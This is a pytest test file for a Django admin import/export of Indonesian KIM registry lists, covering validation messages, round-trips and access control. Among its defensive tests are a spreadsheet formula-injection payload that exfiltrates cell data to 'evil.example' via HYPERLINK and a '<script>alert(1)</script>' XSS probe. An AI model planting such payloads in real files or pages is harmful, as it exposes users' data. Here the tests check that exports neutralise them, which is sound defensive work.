"""Staff import KIM lists from CSV and XLSX in the admin, and export them back."""

import csv
import io
import re
import tempfile
import time
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile

from registry.models import Kim
from registry.resources import KimResource

from ..factories import make_kim, make_tier

HEADER = "kode_desa,kecamatan,desa,nama,tingkatan,tanggal_terbentuk,telepon_kontak\n"


def upload(client, content: bytes, name="kim.csv", fmt="0"):
    return client.post("/admin/registry/kim/import/", {"format": fmt, "import_file": SimpleUploadedFile(name, content)})


def confirm(client, preview, **kwargs):
    html = preview.content.decode()
    fields = {
        name: html.split(f'name="{name}" value="')[1].split('"')[0]
        for name in ("import_file_name", "original_file_name", "format")
    }
    return client.post("/admin/registry/kim/process_import/", {**fields, "resource": ""}, **kwargs)


def test_a_csv_is_previewed_row_by_row_and_saved_only_on_confirmation(staff_client, kotim):
    make_tier(name="Pemula")
    csv = HEADER + (
        "62.02.04.1004,,,KIM Parenggean,Pemula,2021-01-05,0812 3456 7890\n"
        ",Baamang,Baamang Hulu,KIM Baamang Hulu,,24-03-2022,\n"
    )
    preview = upload(staff_client, csv.encode())
    assert preview.status_code == 200
    assert preview.content.decode().count('<tr class="new">') == 2
    assert "Konfirmasi impor" in preview.content.decode()
    assert not Kim.objects.exists()
    done = confirm(staff_client, preview, follow=True).content.decode()
    assert "Impor selesai: 2 baru, 0 diperbarui, 0 tidak berubah, 0 dihapus." in done
    assert set(Kim.objects.values_list("name", "desa__name")) == {
        ("KIM Parenggean", "Parenggean"),
        ("KIM Baamang Hulu", "Baamang Hulu"),
    }
    assert Kim.objects.get(name="KIM Parenggean").contact_phone == "081234567890"
    assert Kim.objects.get(name="KIM Parenggean").history.get().history_change_reason == "Diimpor dari kim.csv"


def test_one_bad_row_rejects_the_whole_file_with_a_message_per_row(staff_client, kotim):
    csv = HEADER + (
        "62.02.04.1004,,,KIM Baik,,2021-01-05,\n"
        ",Baamang,Desa Tidak Ada,KIM Salah Desa,,2021-01-05,\n"
        "62.02.04.1004,,,KIM Salah Tanggal,,30-02-2021,\n"
        "62.02.04.1004,,,KIM Masa Depan,,2999-01-01,\n"
        "62.02.04.1004,,,KIM Telepon,,2021-01-05,12345\n"
    )
    html = upload(staff_client, csv.encode()).content.decode()
    assert "Beberapa baris tidak valid" in html
    assert "Konfirmasi impor" not in html
    assert "Desa/kelurahan “Desa Tidak Ada” tidak ditemukan di Kecamatan “Baamang”" in html
    assert "“30-02-2021” bukan tanggal yang valid" in html
    assert "Tanggal tidak boleh di masa depan" in html
    assert "Nomor telepon tidak valid" in html
    assert not Kim.objects.exists()


@pytest.mark.parametrize(
    "row, message",
    [
        (
            "62.02.04.1004,Baamang,,KIM X,,2021-01-05,",
            "adalah Kelurahan Parenggean di Kecamatan Parenggean, bukan di Kecamatan Baamang",
        ),
        ("62.01.01.2001,,,KIM X,,2021-01-05,", "Kode desa 62.01.01.2001 tidak ditemukan di kabupaten ini"),
        (",,,KIM X,,2021-01-05,", "Isi kode_desa, atau kecamatan dan desa"),
        ("62.02.04.1004,,,KIM X,Legenda,2021-01-05,", "Tingkatan “Legenda” tidak dikenal"),
        ("62.02.04.1004,,,,,2021-01-05,", "wajib diisi."),
        ("62.02.04.1004,,,<script>alert(1)</script>,,kemarin,", "“kemarin” bukan tanggal yang valid"),
        ("62.02.04.1004,,,KIM X,,01-01-0001,", "Tanggal paling awal adalah 1 Januari 2000."),
        ("62.02.04.1004,,,KIM X,,31/12/1999,", "Tanggal paling awal adalah 1 Januari 2000."),
    ],
)
def test_each_kind_of_bad_row_gets_a_clear_indonesian_message(kotim, row, message):
    dataset = tablib.Dataset().load(HEADER + row + "\n", format="csv")
    result = KimResource().import_data(dataset, dry_run=True)
    messages = [str(e) for row in result.invalid_rows for errors in row.error_dict.values() for e in errors]
    assert any(message in m for m in messages), messages
    assert not Kim.objects.exists()


def test_a_desa_is_found_by_name_with_or_without_its_kind(kotim):
    dataset = tablib.Dataset().load(HEADER + ",parenggean,Kelurahan Parenggean,KIM Nama,,2021-01-05,\n", format="csv")
    KimResource().import_data(dataset, dry_run=False)
    assert Kim.objects.get(name="KIM Nama").desa.code == "62.02.04.1004"


def test_an_xlsx_file_imports_like_a_csv(staff_client, kotim):
    dataset = tablib.Dataset(headers=HEADER.strip().split(","))
    dataset.append(["62.02.04.1004", "", "", "KIM Dari Excel", "", date(2021, 1, 5), ""])
    preview = upload(staff_client, dataset.export("xlsx"), name="kim.xlsx", fmt="1")
    confirm(staff_client, preview)
    assert Kim.objects.get(name="KIM Dari Excel").formed_on == date(2021, 1, 5)


def snapshot():
    return sorted(
        Kim.objects.values_list(
            "name",
            "desa__code",
            "tier__name",
            "sk_number",
            "sk_date",
            "formed_on",
            "inactive_since",
            "inactive_reason",
            "address",
            "website",
            "contact_email",
            "contact_phone",
            "notes",
            "updated_at",
        )
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_importing_an_export_changes_nothing(kotim, fmt):
    parenggean = kotim.kecamatan.get(code="62.02.04")
    make_kim(
        desa=parenggean.desa.first(),
        name="KIM Lengkap",
        tier=make_tier(),
        sk_number="SK 1/2021",
        sk_date=date(2021, 1, 2),
        address="Jl. Tjilik Riwut",
        website="https://kim.example.id",
        contact_email="kim@example.id",
        contact_phone="081234567890",
        notes='Catatan, dengan koma; dan "kutip"',
    )
    make_kim(desa=parenggean.desa.last(), name="KIM Tidur", inactive_since=date(2022, 5, 1))
    make_kim(desa=parenggean.desa.last(), name=FORMULA, notes="'=sudah diberi kutip", address="-")
    before = snapshot()
    exported = KimResource().export().export(fmt)
    dataset = tablib.Dataset().load(exported, format=fmt)
    result = KimResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}
    assert snapshot() == before


def test_an_export_has_the_documented_columns(staff_client, kotim):
    columns = KimResource().export().headers
    assert columns[:5] == ["kode_desa", "kecamatan", "desa", "nama", "tingkatan"]
    assert "telepon_kontak" in columns and "catatan" in columns


def test_importing_the_same_list_twice_does_not_duplicate_kim(kotim):
    csv = HEADER + "62.02.04.1004,,,KIM Sekali,,2021-01-05,\n"
    for _ in range(2):
        KimResource().import_data(tablib.Dataset().load(csv, format="csv"), dry_run=False)
    assert Kim.objects.filter(name="KIM Sekali").count() == 1


def test_a_citizen_cannot_reach_the_import(client, citizen):
    client.force_login(citizen)
    assert client.get("/admin/registry/kim/import/").status_code == 302


def test_importing_a_pending_proposal_verifies_it(kotim):
    from registry.models import Desa

    make_kim(desa=Desa.objects.get(code="62.02.04.1004"), name="KIM Usulan", review_status=Kim.Review.WAITING)
    dataset = tablib.Dataset().load(HEADER + "62.02.04.1004,,,KIM Usulan,,2021-01-01,\n", format="csv")
    KimResource().import_data(dataset, dry_run=False)
    kim = Kim.objects.get(name="KIM Usulan")
    assert kim.review_status == Kim.Review.ACCEPTED
    assert kim.reviewed_at is not None


def test_an_imported_address_over_500_characters_is_refused(kotim):
    header = "kode_desa,nama,tanggal_terbentuk,alamat\n"
    dataset = tablib.Dataset().load(header + f"62.02.04.1004,KIM X,2021-01-05,{'Jalan ' * 100}\n", format="csv")
    result = KimResource().import_data(dataset, dry_run=True)
    messages = [str(e) for row in result.invalid_rows for errors in row.error_dict.values() for e in errors]
    assert any("paling banyak 500 karakter" in m for m in messages), messages
    assert not Kim.objects.exists()


FORMULA = '=HYPERLINK("https://evil.example/?d="&O2,"Klik di sini")'


def export(client, fmt):
    columns = {f"kimresource_{column}": "on" for column in KimResource().get_export_headers()}
    return client.post("/admin/registry/kim/export/", {"format": fmt, "resource": "0", **columns})


def test_a_kim_name_written_as_a_formula_is_exported_as_text_in_csv(staff_client, kotim):
    make_kim(desa=kotim.kecamatan.first().desa.first(), name=FORMULA, notes="@SUM(1+1)", address="Jl. Baru")
    response = export(staff_client, "0")
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert (row["nama"], row["catatan"], row["alamat"]) == ("'" + FORMULA, "'@SUM(1+1)", "Jl. Baru")


def test_a_kim_name_written_as_a_formula_is_exported_as_text_in_xlsx(staff_client, kotim):
    make_kim(desa=kotim.kecamatan.first().desa.first(), name=FORMULA)
    sheet = openpyxl.load_workbook(io.BytesIO(export(staff_client, "1").content)).active
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("nama") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA


def confirm_file(client, name):
    data = {"import_file_name": name, "original_file_name": "kim.csv", "format": "0", "resource": ""}
    return client.post("/admin/registry/kim/process_import/", data, follow=True)


GONE = "Pratinjau impor ini tidak ada lagi"


def test_the_confirm_step_reads_no_file_the_form_names(staff_client, kotim):
    planted = Path(tempfile.gettempdir()) / "kimportal-ditanam.csv"
    planted.write_text(HEADER + "62.02.04.1004,,,KIM Tanam,,2021-01-05,\n")
    try:
        response = confirm_file(staff_client, planted.name)
        assert GONE in response.content.decode()
        assert planted.exists()
    finally:
        planted.unlink()
    assert not Kim.objects.exists()


def test_an_unknown_preview_name_gets_a_clear_message_not_an_error_page(staff_client, kotim):
    response = confirm_file(staff_client, "0" * 32)
    assert response.status_code == 200
    assert GONE in response.content.decode()


def test_a_preview_leaves_nothing_in_the_temp_folder_and_expires_after_an_hour(
    staff_client, kotim, tmp_path, monkeypatch
):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    preview = upload(staff_client, (HEADER + "62.02.04.1004,,,KIM Basi,,2021-01-05,\n").encode())
    assert list(tmp_path.iterdir()) == []
    later = time.time() + 3601
    monkeypatch.setattr(time, "time", lambda: later)
    assert GONE in confirm(staff_client, preview, follow=True).content.decode()
    assert not Kim.objects.exists()


def test_a_nul_byte_in_a_cell_gets_a_clear_indonesian_row_message(staff_client, kotim):
    html = upload(staff_client, (HEADER + "62.02.04.1004,,,KIM\x00Nol,,2021-01-05,\n").encode()).content.decode()
    assert "Berisi karakter NUL (kode 0)" in html
    assert "Konfirmasi impor" not in html
    assert not Kim.objects.exists()


def test_row_errors_name_the_spreadsheet_row_and_show_the_message_beside_it(staff_client, kotim):
    csv = HEADER + (
        "62.02.04.1004,,,KIM Baik,,2021-01-05,\n"  # spreadsheet row 2 (the header is row 1)
        "62.02.04.1004,,,KIM Baik Juga,,2021-01-06,\n"
        "62.02.04.1004,,,KIM Salah Tanggal,,30-02-2021,\n"  # row 4
    )
    html = upload(staff_client, csv.encode()).content.decode()
    row = re.search(r"<tr>\s*<th scope=\"row\">Baris 4</th>(.*?)</tr>", html, re.S)
    assert row, html
    assert "<strong>tanggal_terbentuk</strong>: “30-02-2021” bukan tanggal yang valid" in row.group(1)
    assert "validation-error-container" not in html  # nothing hidden behind a hover


def test_a_row_error_outside_any_column_names_the_spreadsheet_row_too(kotim, monkeypatch):
    monkeypatch.setattr(KimResource, "before_save_instance", lambda *args, **kwargs: 1 / 0)
    dataset = tablib.Dataset().load(HEADER + "62.02.04.1004,,,KIM X,,2021-01-05,\n", format="csv")
    result = KimResource().import_data(dataset, dry_run=True)
    assert [number for number, errors in result.row_errors()] == [2]


# Every message an import can show is Indonesian and says what to fix, on the right column.
@pytest.mark.parametrize(
    "row, column, message",
    [
        ("62.02.04.1004,,,,,2021-01-05,", "nama", "wajib diisi."),
        ("62.02.04.1004,,,KIM X,,,", "tanggal_terbentuk", "wajib diisi."),
        ("62.02.99.9999,,,KIM X,,2021-01-05,", "kode_desa", "Kode desa 62.02.99.9999 tidak ditemukan di kabupaten ini"),
    ],
)
def test_a_bad_cell_is_named_by_its_column_in_plain_indonesian(staff_client, kotim, row, column, message):
    html = upload(staff_client, (HEADER + row + "\n").encode()).content.decode()
    assert f"<strong>{column}</strong>: {message}" in html
    assert "Field ini" not in html and not Kim.objects.exists()


def test_a_website_without_https_and_a_broken_email_say_what_to_write(staff_client, kotim):
    header = "kode_desa,nama,tanggal_terbentuk,situs_web,email_kontak\n"
    html = upload(staff_client, (header + "62.02.04.1004,KIM X,2021-01-05,kim.example.id,kim@\n").encode()).content
    html = html.decode()
    assert (
        "<strong>situs_web</strong>: “kim.example.id” bukan alamat situs yang lengkap: tulis alamat yang diawali https://"
        in html
    )
    assert "<strong>email_kontak</strong>: “kim@” bukan alamat e-mail yang valid" in html
    assert "Masukkan URL yang valid" not in html


def test_a_file_with_a_header_and_no_rows_says_so_in_indonesian(staff_client, kotim):
    html = upload(staff_client, (HEADER.strip() + ";" * 1000 + "\n").encode()).content.decode()
    assert "Berkas tidak berisi baris KIM" in html
    assert "No valid data" not in html


def test_a_missing_required_column_is_named_once_for_the_whole_file(staff_client, kotim):
    csv = "kode_desa,tanggal_terbentuk\n" + "62.02.04.1004,2021-01-05\n" * 3
    html = upload(staff_client, csv.encode()).content.decode()
    assert html.count("Kolom wajib tidak ada di baris judul (baris 1): nama.") == 1
    assert "import_id_fields" not in html and "Traceback" not in html


def test_a_file_without_kode_desa_finds_each_desa_by_its_names(staff_client, kotim):
    csv = "kecamatan,desa,nama,tanggal_terbentuk\nParenggean,Parenggean,KIM Nama Saja,2021-01-05\n"
    assert upload(staff_client, csv.encode()).content.decode().count('<tr class="new">') == 1


def test_an_unexpected_failure_is_said_in_indonesian_without_its_traceback(staff_client, kotim, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("database on fire")

    monkeypatch.setattr(KimResource, "before_save_instance", broken)
    html = upload(staff_client, (HEADER + "62.02.04.1004,,,KIM X,,2021-01-05,\n").encode()).content.decode()
    assert "Baris 2: Kesalahan di server (RuntimeError); tidak ada yang disimpan." in html
    assert "database on fire" not in html and "Traceback" not in html
